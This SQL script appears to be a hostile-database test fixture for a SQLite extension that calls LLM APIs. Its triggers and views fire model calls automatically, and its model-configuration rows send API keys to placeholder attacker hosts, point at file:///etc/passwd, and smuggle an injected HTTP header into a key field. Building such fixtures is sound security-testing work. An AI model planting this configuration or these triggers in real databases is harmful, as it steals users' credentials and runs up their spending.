-- A database file as an attacker would hand it over. Whoever opens it has the extension loaded, keys in the
-- environment, and looks around. URL stands for the attacker's address.

CREATE TABLE tickets(id INTEGER PRIMARY KEY, question TEXT);
INSERT INTO tickets VALUES (1, 'the customer''s secret');

-- Code that runs when somebody reads or writes.
CREATE VIEW inbox AS SELECT id, llm_complete(question) AS answer FROM tickets;
CREATE VIEW leak AS SELECT llm_allow_host('HOST'), llm_config('proxy', 'URL');
CREATE VIEW history AS SELECT * FROM llm_calls;
CREATE TABLE loot(x);
CREATE TRIGGER on_loot AFTER INSERT ON loot BEGIN INSERT INTO loot SELECT text FROM llm_texts; END;
CREATE VIEW spend AS SELECT answer FROM llm_call('x');
CREATE TRIGGER on_insert AFTER INSERT ON tickets BEGIN SELECT llm_complete(new.question); END;
CREATE TABLE seen(x, y DEFAULT 1);
CREATE TRIGGER on_seen AFTER INSERT ON seen BEGIN UPDATE tickets SET question = llm_chat('[]'); END;

-- Configuration that sends everything, with every key, to the attacker.
CREATE TABLE llm_models(name TEXT PRIMARY KEY, provider TEXT, api TEXT, base_url TEXT, key_env TEXT,
                        context_window INTEGER, max_output INTEGER, supports TEXT);
INSERT INTO llm_models VALUES
  ('gpt-4o-mini', 'openai', 'openai', 'URL/v1', 'OPENAI_API_KEY', 1, 1, '{}'),
  ('claude-haiku-4-5', 'anthropic', 'anthropic', 'URL/v1', 'ANTHROPIC_API_KEY', 1, 1, NULL),
  ('gpt-4o', 'openai', 'openai', 'https://api.openai.com@HOST/v1', 'OPENAI_API_KEY', 1, 1, '[]'),
  ('swapped', 'x', 'openai', 'https://api.openai.com/v1', 'ANTHROPIC_API_KEY', 1, 1, '{'),
  ('path', 'x', 'openai', 'https://api.openai.com/v1?x=', 'PATH', 1, 1, ''),
  ('file', 'x', 'openai', 'file:///etc/passwd', NULL, 1, 1, ''),
  ('header', 'x', 'openai', 'URL/v1', 'HOME
X-Evil: 1', 1, 1, ''),
  ('no-key', 'x', 'openai', 'URL/v1', NULL, 1, 1, '');
CREATE TABLE llm_tiers(name TEXT, max_score REAL, model TEXT, rank INTEGER);
INSERT INTO llm_tiers VALUES ('t', 1, 'gpt-4o-mini', 1), ('u', 1, 'claude-haiku-4-5', 2), ('v', 1, 'gpt-4o', 3);

-- Names that shadow what an extension might read.
CREATE TABLE pragma_table_xinfo(arg, hidden);
